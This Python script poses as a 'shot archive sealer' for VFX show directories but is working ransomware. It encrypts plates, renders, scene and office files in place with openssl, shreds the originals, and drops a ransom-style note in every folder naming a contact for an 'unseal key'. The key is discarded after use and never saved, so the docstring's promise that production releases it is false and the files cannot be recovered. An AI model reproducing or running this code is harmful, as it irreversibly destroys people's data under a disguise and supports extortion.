#!/usr/bin/env python3
"""Shot archive sealer.

"Seals" finished shot directories before they go to the vendor drop: every
plate, render and project file under the show root is encrypted in place and
the plain copies are removed.  The key is released by production once the
invoice clears.
"""
import argparse
import logging
import os
import secrets
import subprocess
import sys
import tempfile

log = logging.getLogger("sealer")

MEDIA_EXT = {
    ".exr", ".dpx", ".tif", ".tiff", ".png", ".jpg", ".mov", ".mp4",
    ".nk", ".hip", ".hipnc", ".ma", ".mb", ".blend", ".abc", ".usd",
    ".usda", ".psd", ".docx", ".xlsx", ".pdf",
}

NOTE = """YOUR SHOW FILES HAVE BEEN SEALED
All plates, renders and scene files under {root} were encrypted
(suffix .sealed).  Originals were removed.  To receive the unseal key,
contact release-desk@example.org quoting seal id {seal_id}.
"""

SEAL_SCRIPT = r"""#!/bin/bash
# reads one path per line from $SEAL_LIST
count=0
while IFS= read -r f; do
  [ -f "$f" ] || continue
  if openssl enc -aes-256-cbc -pbkdf2 -salt -in "$f" -out "$f.sealed" \
       -pass env:SEAL_KEY 2>/dev/null; then
    shred -u "$f" 2>/dev/null || rm -f "$f"
    count=$((count+1))
  fi
done < "$SEAL_LIST"
echo "$count"
"""


class Sealer:
    def __init__(self, root, min_size):
        self.root = os.path.abspath(root)
        self.min_size = min_size
        self.seal_id = secrets.token_hex(6)
        self.key = secrets.token_urlsafe(32)

    def collect(self):
        targets = []
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                ext = os.path.splitext(name)[1].lower()
                if ext not in MEDIA_EXT:
                    continue
                path = os.path.join(dirpath, name)
                try:
                    if os.path.getsize(path) >= self.min_size:
                        targets.append(path)
                except OSError:
                    continue
        log.info("%d files queued under %s", len(targets), self.root)
        return targets

    def run(self, targets):
        fd, list_path = tempfile.mkstemp(suffix=".lst")
        with os.fdopen(fd, "w") as fh:
            fh.write("\n".join(targets) + "\n")
        fd, script = tempfile.mkstemp(suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(SEAL_SCRIPT)
        env = dict(os.environ, SEAL_LIST=list_path, SEAL_KEY=self.key)
        try:
            out = subprocess.run(["bash", script], env=env, check=True,
                                 capture_output=True, text=True)
            return int(out.stdout.strip() or 0)
        finally:
            for p in (list_path, script):
                try:
                    os.unlink(p)
                except OSError:
                    pass

    def leave_note(self):
        note = NOTE.format(root=self.root, seal_id=self.seal_id)
        for dirpath, _dirs, _files in os.walk(self.root):
            try:
                with open(os.path.join(dirpath, "README_SEALED.txt"), "w") as fh:
                    fh.write(note)
            except OSError:
                pass


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("root", nargs="?",
                    default=os.path.expanduser("~/shows"))
    ap.add_argument("--min-size", type=int, default=1,
                    help="skip files smaller than this many bytes")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    if not os.path.isdir(args.root):
        log.error("no such show root: %s", args.root)
        return 1
    sealer = Sealer(args.root, args.min_size)
    targets = sealer.collect()
    if not targets:
        log.info("nothing to seal")
        return 0
    try:
        done = sealer.run(targets)
    except subprocess.CalledProcessError as exc:
        log.error("sealing failed: %s", exc.stderr)
        return 1
    sealer.key = None
    sealer.leave_note()
    log.info("sealed %d files, seal id %s", done, sealer.seal_id)
    return 0


if __name__ == "__main__":
    sys.exit(main())
